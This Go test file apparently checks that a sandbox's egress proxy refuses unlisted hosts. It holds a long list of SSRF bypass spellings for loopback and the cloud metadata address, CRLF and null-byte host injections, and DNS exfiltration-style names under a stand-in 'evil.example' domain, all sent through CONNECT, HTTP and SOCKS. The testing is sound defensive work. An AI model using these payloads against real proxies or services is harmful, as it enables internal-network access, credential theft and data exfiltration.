//go:build linux

package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"paddock/internal/egress"
	"paddock/internal/testproc"
)

// A spelling is a way to write a host, and what a proxy may make of it.
type spelling struct {
	Host string
	Port int
}

// spellings are hosts that a run must not reach by its proxy: the machine's own
// services, written in every way that some resolver or kernel takes for them, the
// metadata address, names that carry something out to who answers for a domain, and
// names that end, or begin, like a listed one. other is the port of a service of the
// machine that isn't listed.
func spellings(other int) []spelling {
	var all []spelling
	for _, host := range []string{
		"127.0.0.1", "127.0.0.1.", "127.9.9.9", "localhost", "LOCALHOST", "localhost.", "LocalHost.", "localhost..", "[::1]", "[::ffff:127.0.0.1]",
		"[::FFFF:7F00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "0.0.0.0", "[::]", "0", "127.1", "127.0.1",
		"2130706433", "017700000001", "0177.0.0.1", "0177.00.00.01", "0x7f000001", "0x7f.0.0.1", "0x7f.1", "127.0.0.1%00", "127.0.0.1\x00", "127.0.0.1\x00.evil.example",
		"１２７.０.０.１", "①②⑦.0.0.1", "127。0。0。1", "[fe80::1%lo]", "127.0.0.1%lo", "user@127.0.0.1", "listed.example@127.0.0.1", "127.0.0.1#listed.example",
		"127.0.0.1\\@listed.example", "127.0.0.1/", "127.0.0.1?",
	} {
		all = append(all, spelling{host, other})
	}
	for _, host := range []string{"169.254.169.254", "169.254.169.254.", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[fd00:ec2::254]", "metadata.google.internal"} {
		all = append(all, spelling{host, 80})
	}
	for _, host := range []string{
		"c2VjcmV0.evil.example", "C2VJCMV0.EVIL.EXAMPLE.", "listed.example\x00.evil.example", "evil.example\x00.listed.example", "evil.example%00.listed.example", "evil.example\r\nHost: listed.example",
		"listed.example.evil.example", "notlisted.example", "c2VjcmV0.listed.example", "listed.example..", ".listed.example", "listed.example:443@evil.example", "lısted.example", "xn--lsted-q4a.example",
	} {
		all = append(all, spelling{host, 443})
	}
	return all
}

// A reply is what came of one of them.
type reply struct{ Way, Host, Said string }

// spell asks the proxy for every spelling in every way that there is, and then tries
// what goes past it.
func spell(args []string) int {
	listed, other := args[0], number(args[1:])
	out := json.NewEncoder(os.Stdout)
	say := func(way, host, said string) {
		if err := out.Encode(reply{way, host, said}); err != nil {
			os.Exit(98)
		}
	}
	proxy := strings.TrimPrefix(os.Getenv("HTTP_PROXY"), "http://")
	for _, s := range spellings(other) {
		target := fmt.Sprintf("%s:%d", s.Host, s.Port)
		say("connect", s.Host, status(proxy, fmt.Sprintf("CONNECT %s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", target)))
		say("http", s.Host, status(proxy, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %[1]s\r\nConnection: close\r\n\r\n", target)))
		say("http", s.Host+" in Host", status(proxy, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", listed, target)))
		say("socks", s.Host, socks(proxy, strings.Trim(s.Host, "[]"), s.Port))
	}
	say("listed", listed, status(proxy, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %[1]s\r\nConnection: close\r\n\r\n", listed)))
	// A client that does as it is told is sent on by who is listed to who isn't.
	at, err := url.Parse(os.Getenv("HTTP_PROXY"))
	if err != nil {
		return 97
	}
	client := http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(at), DisableKeepAlives: true}}
	answer, err := client.Get("http://" + listed + "/away")
	say("redirect", listed, said(answer, err))
	past(say, other)
	return 0
}

// past tries what needs no proxy: names, the network's own messages, and the
// machine's loopback.
func past(say func(way, host, said string), other int) {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	resolver := net.Resolver{PreferGo: true}
	_, err := resolver.LookupHost(ctx, "c2VjcmV0.evil.example")
	say("dns", "c2VjcmV0.evil.example", refusedWith(err))
	for _, server := range []string{"192.0.2.1:53", "127.0.0.53:53"} {
		_, err := net.Dial("tcp", server)
		say("dns", server, refusedWith(err))
	}
	for name, kind := range map[string]int{"ping": unix.SOCK_DGRAM, "raw": unix.SOCK_RAW} {
		fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
		if err == nil {
			_ = unix.Close(fd)
		}
		say("icmp", name, refusedWith(err))
	}
	for _, host := range []string{"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0"} {
		_, err := net.Dial("tcp", net.JoinHostPort(host, strconv.Itoa(other)))
		say("direct", host, refusedWith(err))
	}
}

// refusedWith is empty when nothing stood in the way.
func refusedWith(err error) string {
	if err == nil {
		return ""
	}
	return "refused: " + err.Error()
}

// status sends a request as it is, and returns what the proxy answers.
func status(proxy, request string) string {
	conn, err := net.Dial("tcp", proxy)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, request); err != nil {
		return err.Error()
	}
	r := bufio.NewReader(conn)
	line, err := r.ReadString('\n')
	if err == nil && strings.HasPrefix(request, "GET ") {
		_, err = io.Copy(io.Discard, r) // who goes early makes the answer a failed one
	}
	if err != nil {
		return err.Error()
	}
	return strings.TrimSpace(line)
}

// socks asks for a host in the form that fits it, and returns the code of the reply.
func socks(proxy, host string, port int) string {
	conn, err := net.Dial("tcp", proxy)
	if err != nil {
		return err.Error()
	}
	defer conn.Close()
	request := []byte{5, 1, 0, 5, 1, 0}
	if ip, err := netip.ParseAddr(host); err == nil && ip.Zone() == "" {
		kind := byte(4)
		if ip.Is4() {
			kind = 1
		}
		request = append(append(request, kind), ip.AsSlice()...)
	} else {
		request = append(append(request, 3, byte(len(host))), host...)
	}
	request = append(request, byte(port>>8), byte(port))
	if _, err := conn.Write(request); err != nil {
		return err.Error()
	}
	answer := make([]byte, 4)
	if _, err := io.ReadFull(conn, answer); err != nil {
		return err.Error()
	}
	return "reply " + strconv.Itoa(int(answer[3]))
}

// counted is a service that counts who comes.
func counted(t *testing.T, answer http.HandlerFunc) (address string, port int, hits *atomic.Int64) {
	t.Helper()
	hits = &atomic.Int64{}
	s := httptest.NewUnstartedServer(answer)
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			hits.Add(1)
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	address = s.Listener.Addr().String()
	return address, s.Listener.Addr().(*net.TCPAddr).Port, hits
}

// From inside of a run whose network is a list, no way to write a host reaches
// another one: who isn't listed is never connected to, and their names are never
// asked for.
func TestNoSpellingReachesWhatIsNotListed(t *testing.T) {
	t.Parallel()
	for name, uid := range users() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			hello := func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "hello") }
			_, other, touched := counted(t, hello)
			listed, _, reached := counted(t, func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/away" {
					http.Redirect(w, r, fmt.Sprintf("http://127.0.0.1:%d/", other), http.StatusFound)
				}
			})
			// A listed name that leads to the machine itself, as one does whose owner
			// exchanges its address.
			y := newYard(t)
			command := y.allowed(uid, listed, "listed.example:443")
			out, err := command("run", "--", "prog", "spell", listed, strconv.Itoa(other)).Output()
			if err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			checkReplies(t, string(out), listed)
			if touched.Load() != 0 || reached.Load() == 0 {
				t.Errorf("who isn't listed was reached %d times, who is %d times", touched.Load(), reached.Load())
			}
			checkEntries(t, command, listed)
		})
	}
}

// checkReplies holds what the program saw to being refusals.
func checkReplies(t *testing.T, out, listed string) {
	t.Helper()
	ways := map[string]int{}
	for line := range strings.Lines(out) {
		var r reply
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%v: %q", err, line)
		}
		ways[r.Way]++
		ok := false
		switch r.Way {
		case "connect", "http":
			ok = strings.HasPrefix(r.Said, "HTTP/1.1 403 ") || strings.HasPrefix(r.Said, "HTTP/1.1 400 ")
		case "socks":
			ok = strings.HasPrefix(r.Said, "reply ") && r.Said != "reply 0"
		case "listed":
			ok = r.Said == "HTTP/1.1 200 OK"
		case "redirect":
			ok = r.Said == "403 Forbidden"
		case "dns", "icmp", "direct":
			ok = strings.HasPrefix(r.Said, "refused: ")
		}
		if !ok {
			t.Errorf("%s %q: %s", r.Way, r.Host, r.Said)
		}
	}
	if ways["socks"] < 50 || ways["listed"] != 1 || ways["redirect"] != 1 || ways["dns"] != 3 || ways["icmp"] != 2 || ways["direct"] != 4 {
		t.Errorf("it tried %v", ways)
	}
}

// checkEntries holds the record to the same: nobody else was connected to, and no
// name was resolved.
func checkEntries(t *testing.T, command func(args ...string) *testproc.Cmd, listed string) {
	t.Helper()
	for _, e := range lastRun(t, command).Connections {
		switch {
		case fmt.Sprintf("%s:%d", e.Host, e.Port) == listed && (e.Verdict == egress.Allowed || e.Code == egress.HostMismatch):
		case e.Verdict != egress.Refused || e.Address != "" || e.Code == egress.AddressRefused || e.Code == egress.ResolveFailed:
			t.Errorf("recorded %+v", e)
		}
	}
}

// A listed name whose owner points it at the machine that Paddock runs on reaches
// nothing there but what is listed by its address.
func TestAListedNameThatLeadsHere(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		testproc.Skip(t, "only root can give a process another file of hosts")
	}
	if out, err := testproc.Command(t, "unshare", "-m", "true").CombinedOutput(); err != nil {
		testproc.Skip(t, fmt.Sprintf("no mount namespace can be made here: %v %s", err, out))
	}
	hello := func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "hello") }
	_, other, touched := counted(t, hello)
	listed, port, reached := counted(t, hello)
	name := func(port int) string { return fmt.Sprintf("rebound.example:%d", port) }
	y := newYard(t)
	command := y.allowed(0, listed, name(port), name(other))
	hosts := filepath.Join(y.work, "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost rebound.example\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	plain := command("run", "--", "prog", "reach", name(port), name(other))
	args := append([]string{"-m", "sh", "-c", `mount --bind "$0" /etc/hosts && exec "$@"`, hosts}, plain.Args...)
	cmd := testproc.Command(t, "unshare", args...)
	cmd.Dir, cmd.Env = plain.Dir, plain.Env
	out, err := cmd.CombinedOutput()
	for _, line := range []string{"http " + name(port) + " hello", "connect " + name(port) + " hello", "connect " + name(other) + " 403 Forbidden", "socks5h " + name(other) + " failed"} {
		if !strings.Contains("\n"+string(out), "\n"+line+"\n") {
			t.Errorf("no line says %q", line)
		}
	}
	if err != nil || touched.Load() != 0 || reached.Load() == 0 {
		t.Fatalf("%v: who isn't listed was reached %d times, who is %d times\n%s", err, touched.Load(), reached.Load(), out)
	}
	refused := 0
	for _, e := range lastRun(t, command).Connections {
		if e.Code == egress.AddressRefused && e.Port == other {
			refused++
		}
	}
	if refused == 0 {
		t.Errorf("no entry says that the address is refused: %+v", lastRun(t, command).Connections)
	}
}
